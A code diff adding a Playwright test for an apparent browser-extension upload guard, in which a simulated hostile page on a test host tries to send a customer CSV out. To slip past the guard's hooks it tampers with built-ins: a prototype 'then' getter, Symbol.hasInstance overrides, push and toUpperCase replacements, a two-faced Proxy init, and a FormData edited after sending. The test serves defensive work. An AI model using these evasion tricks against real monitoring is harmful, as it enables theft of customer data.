@@ -108,6 +108,84 @@ test.describe('upload guard', () => {
     expect((await events(ext)).some((e) => e.channel === 'upload' && e.decision === 'block')).toBe(true);
   });
 
+  test('a hostile page that rewrites built-ins around each send (then, instanceof, push, toUpperCase, lying init, later edits) never gets customers out', async ({ ext, sites }) => {
+    const page = await open(ext, sites, 'share.test');
+    sites.clearRequests();
+    const email = CSV.split('\n')[1].split(',').find((c) => c.includes('@'))!;
+    const outcomes = await page.evaluate(async (csv) => {
+      const out: Record<string, string> = {};
+      const xhr = (method: string, body: unknown) =>
+        new Promise<string>((resolve) => {
+          const x = new XMLHttpRequest();
+          x.open(method, '/upload');
+          x.onload = () => resolve('sent');
+          x.onerror = () => resolve('refused');
+          x.send(body as XMLHttpRequestBodyInit);
+        });
+      const tryFetch = (p: Promise<Response>) => p.then(() => 'sent', () => 'refused');
+      // 1. Any object the hooks might resolve a promise with answers "allow" through Object.prototype.then.
+      Object.defineProperty(Object.prototype, 'then', {
+        configurable: true,
+        get() {
+          return this && typeof this === 'object' && 'allow' in this ? (res: (v: unknown) => void) => res(Object.assign(Object.create(null), { allow: true })) : undefined;
+        },
+      });
+      const thenable = await tryFetch(fetch('/upload', { method: 'POST', body: csv }));
+      delete (Object.prototype as { then?: unknown }).then;
+      out.thenable = thenable;
+      // 2. instanceof answered by the page: a Request body and a Blob that claim to be neither.
+      Object.defineProperty(Request, Symbol.hasInstance, { value: () => false, configurable: true });
+      Object.defineProperty(Blob, Symbol.hasInstance, { value: () => false, configurable: true });
+      const req = tryFetch(fetch(new Request('/upload', { method: 'POST', body: csv })));
+      const blob = xhr('POST', new Blob([csv]));
+      delete (Request as { [Symbol.hasInstance]?: unknown })[Symbol.hasInstance];
+      delete (Blob as { [Symbol.hasInstance]?: unknown })[Symbol.hasInstance];
+      out.request = await req;
+      out.blob = await blob;
+      // 3. Array.prototype.push that drops everything, while a FormData is read.
+      const push = Array.prototype.push;
+      Array.prototype.push = function (this: unknown[]) {
+        return this.length;
+      };
+      const fd = new FormData();
+      fd.append('list', csv);
+      const pushed = tryFetch(fetch('/upload', { method: 'POST', body: fd }));
+      Array.prototype.push = push;
+      out.push = await pushed;
+      // 4. A method that upper-cases to GET.
+      const upper = String.prototype.toUpperCase;
+      String.prototype.toUpperCase = function () {
+        return 'GET';
+      };
+      const post = xhr('post', csv);
+      String.prototype.toUpperCase = upper;
+      out.upper = await post;
+      // 5. An init that shows the guard a harmless body and the browser the customers.
+      let reads = 0;
+      const init = new Proxy({} as RequestInit, {
+        has: (_t, k) => k === 'method' || k === 'body',
+        get: (_t, k) => (k === 'method' ? 'POST' : k === 'body' ? (reads++ === 0 ? 'hello' : csv) : undefined),
+      });
+      out.lying = await tryFetch(fetch('/upload', init));
+      // 6. A harmless FormData sent, then filled with customers while the guard judges it.
+      const later = new FormData();
+      later.append('note', 'hello');
+      const edited = xhr('POST', later);
+      later.append('list', csv);
+      out.edited = await edited;
+      return out;
+    }, CSV);
+    expect(outcomes).toMatchObject({ thenable: 'refused', request: 'refused', blob: 'refused', push: 'refused', upper: 'refused' });
+    // What the page got past the guard is what the guard saw: the harmless words, never a customer.
+    const bodies = sites.requests.filter((r) => r.host === 'share.test' && r.method === 'POST').map((r) => r.body.toString('utf8'));
+    expect(bodies.join('\n')).not.toContain(email);
+    expect(bodies.length).toBeLessThanOrEqual(2);
+    // Refused by the hooks' judgement, not only by the network backstop for blocked hosts.
+    const vias = (await events(ext)).filter((e) => e.channel === 'upload' && e.decision === 'block').map((e) => e.detail?.via);
+    expect(vias.filter((v) => v === 'fetch').length).toBeGreaterThanOrEqual(3);
+    expect(vias.filter((v) => v === 'xhr').length).toBeGreaterThanOrEqual(2);
+  });
+
   test("a page that defines maruhi's tag names as its own custom elements still shows the label and the notice", async ({ ext, sites }) => {
     // Its constructors run on any element of that name the document creates, and take the shadow root first.
     const TAGS = ['maruhi-banner', 'maruhi-notice', 'maruhi-dialog', 'maruhi-watermark', 'maruhi-pledge', 'maruhi-print', 'maruhi-privacy'];
